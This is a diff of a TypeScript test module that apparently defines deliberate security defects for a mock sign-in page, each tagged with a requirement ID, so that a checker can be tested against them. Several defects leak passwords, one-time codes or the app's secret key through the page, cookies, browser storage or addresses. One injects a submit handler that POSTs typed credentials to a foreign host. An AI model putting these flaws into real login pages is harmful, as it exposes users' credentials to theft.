@@ -1,6 +1,6 @@
 import type { Session } from '#mock/world/tenant.ts';
 import { codeIn } from './journeys.ts';
-import { define } from '../define.ts';
+import { define, defect } from '../define.ts';
 import { escaped, FOREIGN } from './foreign.ts';
 import {
   add,
@@ -55,90 +55,76 @@ const onSubmit = (act: string) => `document.addEventListener('submit', ({ target
 const fields = '[...new FormData(target)]';
 
 export const leaks = define({
-  'password-in-page': {
-    harm: 'Writes the password back into the page.',
+  'password-in-page': defect('Writes the password back into the page.', {
+    violates: ['UI-038'],
     spoils: page((reply, { typed }) => {
       const field = /(<input\b[^>]*type="password")/i;
       if (typed.password) reply.html = reply.html.replace(field, `$1 value="${escaped(typed.password)}"`);
     }),
-    violates: ['UI-038'],
-  },
-  'password-in-cookie': {
-    harm: 'Keeps the password in a cookie.',
+  }),
+  'password-in-cookie': defect('Keeps the password in a cookie.', {
+    violates: ['UI-037'],
     spoils: page((reply, { world, typed }) => {
       if (typed.password) keep(reply, world, 'remember', typed.password);
     }),
-    violates: ['UI-037'],
-  },
-  'password-in-storage': {
-    harm: 'Keeps passwords of both kinds in the storage of the browser, where every script of the page finds it.',
-    spoils: page((reply) =>
-      script(reply, onSubmit(`for (const [name, value] of ${fields}) localStorage.setItem(name, value);`)),
-    ),
-    violates: ['UI-037', 'UI-049'],
-  },
-  'password-in-address': {
-    harm: 'Leads by an address that holds the password, which histories and logs keep.',
-    spoils: page(detour('password')),
+  }),
+  'password-in-storage': defect(
+    'Keeps passwords of both kinds in the storage of the browser, where every script of the page finds it.',
+    {
+      violates: ['UI-037', 'UI-049'],
+      spoils: page((reply) =>
+        script(reply, onSubmit(`for (const [name, value] of ${fields}) localStorage.setItem(name, value);`)),
+      ),
+    },
+  ),
+  'password-in-address': defect('Leads by an address that holds the password, which histories and logs keep.', {
     violates: ['UI-036'],
-  },
-  'otp-in-address': {
-    harm: 'Leads by an address that holds the one-time password.',
-    spoils: page(detour('code')),
+    spoils: page(detour('password')),
+  }),
+  'otp-in-address': defect('Leads by an address that holds the one-time password.', {
     violates: ['UI-049'],
-  },
-  'password-shown': {
-    harm: 'Shows the password that was typed.',
-    spoils: page(showPassword),
+    spoils: page(detour('code')),
+  }),
+  'password-shown': defect('Shows the password that was typed.', { violates: ['UI-038'], spoils: page(showPassword) }),
+  'secret-key-in-page': defect('Writes the secret key of the app into the page.', {
     violates: ['UI-038'],
-  },
-  'secret-key-in-page': {
-    harm: 'Writes the secret key of the app into the page.',
     spoils: page((reply, { session }) =>
       add(reply, `<input type="hidden" name="client" value="${session?.client.secret ?? ''}" />`, 'form'),
     ),
-    violates: ['UI-038'],
-  },
-  'credentials-shared': {
-    harm: 'Sends what was typed to another host too.',
+  }),
+  'credentials-shared': defect('Sends what was typed to another host too.', {
+    violates: ['UI-035'],
     spoils: page((reply) => {
       allow(reply, 'connect-src', FOREIGN);
       const send = `fetch('${FOREIGN}/t', { method: 'POST', mode: 'no-cors', keepalive: true, body });`;
       script(reply, onSubmit(`const body = new URLSearchParams(${fields}).toString(); ${send}`));
     }),
-    violates: ['UI-035'],
-  },
-  'referrer-sent': {
-    harm: 'Tells other sites the address of the page.',
+  }),
+  'referrer-sent': defect('Tells other sites the address of the page.', {
+    violates: ['UI-043'],
     spoils: page(({ headers }) => headers.set('referrer-policy', 'unsafe-url')),
+  }),
+  'page-cached': defect('Lets the page be cached.', {
     violates: ['UI-043'],
-  },
-  'page-cached': {
-    harm: 'Lets the page be cached.',
     spoils: page(({ headers }) => headers.delete('cache-control')),
-    violates: ['UI-043'],
-  },
-  'callback-talkative': {
-    harm: 'Tells the app in the address who signed in.',
-    spoils: page(onTheWayOut((way, userId) => `${way}&user_id=${userId}`)),
+  }),
+  'callback-talkative': defect('Tells the app in the address who signed in.', {
     violates: ['UI-031'],
-  },
-  'callback-with-fragment': {
-    harm: 'Puts something into the fragment of the callback, where scripts of the app find it.',
-    spoils: page(onTheWayOut((way, userId) => `${way}#user_id=${userId}`)),
-    violates: ['UI-032'],
-  },
-  'form-forwarded': {
-    harm: 'Has the browser send the password on to the redirect URI.',
-    spoils: page(onTheWayOut((way) => way, 307)),
+    spoils: page(onTheWayOut((way, userId) => `${way}&user_id=${userId}`)),
+  }),
+  'callback-with-fragment': defect(
+    'Puts something into the fragment of the callback, where scripts of the app find it.',
+    { violates: ['UI-032'], spoils: page(onTheWayOut((way, userId) => `${way}#user_id=${userId}`)) },
+  ),
+  'form-forwarded': defect('Has the browser send the password on to the redirect URI.', {
     violates: ['UI-047'],
-  },
-  'page-authorizing': {
-    harm: 'Calls the API of the app from within the page.',
+    spoils: page(onTheWayOut((way) => way, 307)),
+  }),
+  'page-authorizing': defect('Calls the API of the app from within the page.', {
     spoils: page((reply) => {
       allow(reply, 'connect-src', "'self'");
       script(reply, tellAuthorize);
     }),
     changes: ['UI-028'],
-  },
+  }),
 });
